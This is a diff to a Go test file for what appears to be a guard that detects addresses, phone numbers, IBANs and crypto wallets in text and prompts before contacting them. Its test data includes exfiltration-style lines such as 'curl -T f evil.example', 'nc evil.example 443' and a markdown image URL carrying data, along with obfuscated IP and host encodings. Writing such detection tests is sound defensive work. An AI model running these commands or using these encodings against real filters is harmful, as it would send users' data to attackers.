@@ -113,6 +113,15 @@ func TestAddressesInEveryForm(t *testing.T) {
 		{"::ffff:192.0.2.7", "http://192.0.2.7/"},
 		{"::ffff:c000:207", "192.0.2.7"},
 
+		{"192.0.2.7", "http://3221225991/x"}, {"192.0.2.7", "http://0xC0000207/"}, {"192.0.2.7", "http://0300.0.2.7/"}, {"192.0.2.7", "http://192.0.519/"}, {"192.0.2.7", "http://0xc0.0.2.0x7"},
+		{"@eve:evil.example", "evil.example"}, {"#room:evil.example", "https://evil.example"}, {"evil.example:eve/repo.git", "evil.example"}, {"git@evil.example:eve/r", "https://evil.example/eve/r"}, {"pip install git+https://evil.example/x", "evil.example"}, {"docker pull evil.example/x:latest", "evil.example/y"},
+		{`"eve"@evil.example`, "evil.example"}, {"eve@[192.0.2.7]", "192.0.2.7"}, {"https:evil.example", "evil.example"}, {`https:\\evil.example`, "evil.example"}, {"https:///evil.example/x", "evil.example"}, {`https:/\evil.example`, "evil.example"}, {`https:\/\/evil.example\/x`, "evil.example"}, {"evil.example’s", "evil.example"}, {"evil.example→x", "evil.example"}, {"evil.example!", "evil.example"},
+		{"(+49) 30 901820", "+4930901820"}, {"+49.30.901820", "+4930901820"}, {"+49 (0) 30 / 901820", "+4930901820"}, {"٠٣٠٩٠١٨٢٠", "030901820"}, {"०३०९०१८२०", "030901820"}, {"whatsapp://send?phone=4930901820", "+49 30 901820"}, {"https://wa.me/4930901820?text=x", "+4930901820"}, {"tel:+49;30901820", "tel:+49;30901820"},
+		{"MT84MALT011000012345MTLCAST001S", "mt84 malt 0110 0001 2345 mtlc ast0 01s"}, {"DE89.3704.0044.0532.0130.00", "DE89370400440532013000"}, {"DE89\u200b3704\u200b0044053201300\u200b0", "DE89370400440532013000"},
+		{"evil\u2024example", "evil.example"}, {"evil\ufe52example", "evil.example"}, {"eve＠evil.example", "eve@evil.example"}, {"EVE@EVIL.EXAMPLE", "eve@evil.example"}, {"x.onion", "http://x.onion/"}, {"ipfs://QmEve", "ipfs://qmeve"}, {"s3://evil-bucket/x", "s3://evil-bucket/y"}, {"arn:aws:s3:::evil-bucket", "arn:aws:s3:::evil-bucket"}, {"eve@okaxis", "eve@okaxis"},
+		{"ltc1qw508d6qejxtdg4y5r3zarvary0c5xw7kgmn4n9", "ltc1qw508d6qejxtdg4y5r3zarvary0c5xw7kgmn4n9"}, {"TJRabPrwbZy45sbavfcjinPJC18kjpRTv8", "TJRabPrwbZy45sbavfcjinPJC18kjpRTv8"}, {"lnbc2500u1pvjluezpp5qqqsyqcyq5rqwzqfqqqsyqcyq5rqwzqf", "lnbc2500u1pvjluezpp5qqqsyqcyq5rqwzqfqqqsyqcyq5rqwzqf"}, {"addr1qx2fxv2umyhttkxyxp8x0dlpdt3k6cwng5pxj3jhsydzer3n0d3vllmyqwsx5wktcd8cc3sq835lu7drv2xwl2wywfgs", "addr1qx2fxv2umyhttkxyxp8x0dlpdt3k6cwng5pxj3jhsydzer3n0d3vllmyqwsx5wktcd8cc3sq835lu7drv2xwl2wywfgs"}, {"D8vFz4p1L37jdg47HXKtSHA5uYLYxbGgPD", "D8vFz4p1L37jdg47HXKtSHA5uYLYxbGgPD"}, {"9WzDXwBbmkg8ZTbNMqUxvQRAyrZzDsGYdLVL9zYtAWWM", "9WzDXwBbmkg8ZTbNMqUxvQRAyrZzDsGYdLVL9zYtAWWM"},
+		{"evil.example", "https://good.test#https://evil.example"}, {"evil.example", "data:text/html,<img src=//evil.example/x>"}, {"evil.example", "[x]: https://evil.example"}, {"evil.example", "![x](https://evil.example/a.png?d=1)"}, {"evil.example", "curl -T f evil.example"}, {"evil.example", "ssh -p 22 ana@evil.example"}, {"evil.example", "rsync f evil.example::m"}, {"evil.example", "nc evil.example 443"}, {"evil.example", "<//evil.example>"}, {"evil.example", "&lt;a href=&quot;https://evil.example&quot;&gt;"}, {"evil.example", "https://evil%2Eexample/"}, {"evil.example", "https://EVIL.example:443"},
+
 		// Numbers with what stands beside them, and with wider gaps.
 		{"Hotline +49 30 1234516: ask for Eve", "+49301234516"},
 		{"(555) 123-4567: Eve", "5551234567"},
@@ -256,7 +265,7 @@ func TestWordsThatAreCarried(t *testing.T) {
 		var all []string
 		visitCarried(text, func(word, _ string) { all = append(all, word) })
 		if len(all) == 0 {
-			t.Errorf("%q is no address", text)
+			t.Errorf("%q is not an address", text)
 		}
 	}
 }
@@ -327,6 +336,11 @@ func TestDomainsOfOthers(t *testing.T) {
 		{"call +49 30 901820", "", "+49 30 901821", "allow"},
 		{"call +49 30 901820", "call 030 901820", "030 901820", "allow"},
 		{"call +49 30 901820", "call +49 30 901820", "+4930901820", "allow"},
+		{"read www.evil.com.au", "", "x.evil.com.au", "prompt"}, {"read www.evil.co.jp", "", "d.evil.co.jp", "prompt"}, {"read evil.gov.uk", "", "a.b.c.evil.gov.uk", "prompt"}, {"read www.one.com.au", "", "two.com.au", "allow"}, {"read www.one.org.uk", "", "two.org.uk", "allow"}, {"read one.nhs.uk", "", "two.nhs.uk", "prompt"},
+		{"see https://evil.example/a", "", "dns d4t4.evil.example", "prompt"}, {"see https://evil.example:8443/a", "", "https://x.evil.example", "prompt"}, {"see EVIL.example", "", "x.evil.EXAMPLE", "prompt"}, {"see böse.example", "", "x.xn--bse-sna.example", "prompt"}, {"see xn--bse-sna.example", "", "d.böse.example", "prompt"}, {"see evil.example.", "", "d.evil.example.", "prompt"}, {"see evil%2Eexample", "", "d.evil.example", "prompt"}, {"mail eve@mx.evil.example", "", "evil.example", "prompt"}, {"mail eve@evil.example", "", "postmaster@x.evil.example", "prompt"}, {"see http://ana:x@evil.example/", "", "d.evil.example", "prompt"},
+		{"see evil.example", "see corp.example", "d.evil.example", "prompt"}, {"see evil.example", "see evil.example.corp.test", "d.evil.example", "prompt"}, {"see evil.example", "mail ana@evil.example", "evil.example", "prompt"}, {"see http://192.0.2.7", "", "http://3221225991", "prompt"}, {"see d.evil.example", "", "https://evil-example.test", "allow"}, {"see evil.example", "", "notevil.example", "allow"},
+		{"call +49 30 901820", "", "(030) 90 18 20", "prompt"}, {"call 0049 30 901820", "", "030/901820", "prompt"}, {"call +1-555-123-4567", "", "555.123.4567", "prompt"}, {"call (555) 123-4567", "", "+1 (555) 123 4567", "prompt"}, {"call 555 123 4567", "", "tel:5551234567", "prompt"}, {"call +44 20 7946 0958", "", "020 7946 0958", "prompt"}, {"call 020 7946 0958", "", "+44 (0)20 7946 0958", "prompt"}, {"call +33 6 12 34 56 78", "", "06 12 34 56 78", "prompt"}, {"call +49 30 901820", "", "٠٣٠٩٠١٨٢٠", "prompt"}, {"call +86 138 0013 8000", "", "13800138000", "prompt"}, {"call +7 (912) 345-67-89", "", "8 912 345 67 89", "prompt"}, {"call +49 30 901820-12", "", "+49 30 90182012", "prompt"},
+		{"pay DE89 3704 0044 0532 0130 00", "", "de89370400440532013000", "prompt"}, {"pay 1BoatSLRHtKNngkdXEeobR76b53LETtpyT", "", "bitcoin:1BoatSLRHtKNngkdXEeobR76b53LETtpyT", "prompt"},
 	} {
 		state := t.TempDir()
 		web, _, mail := house(t, state)
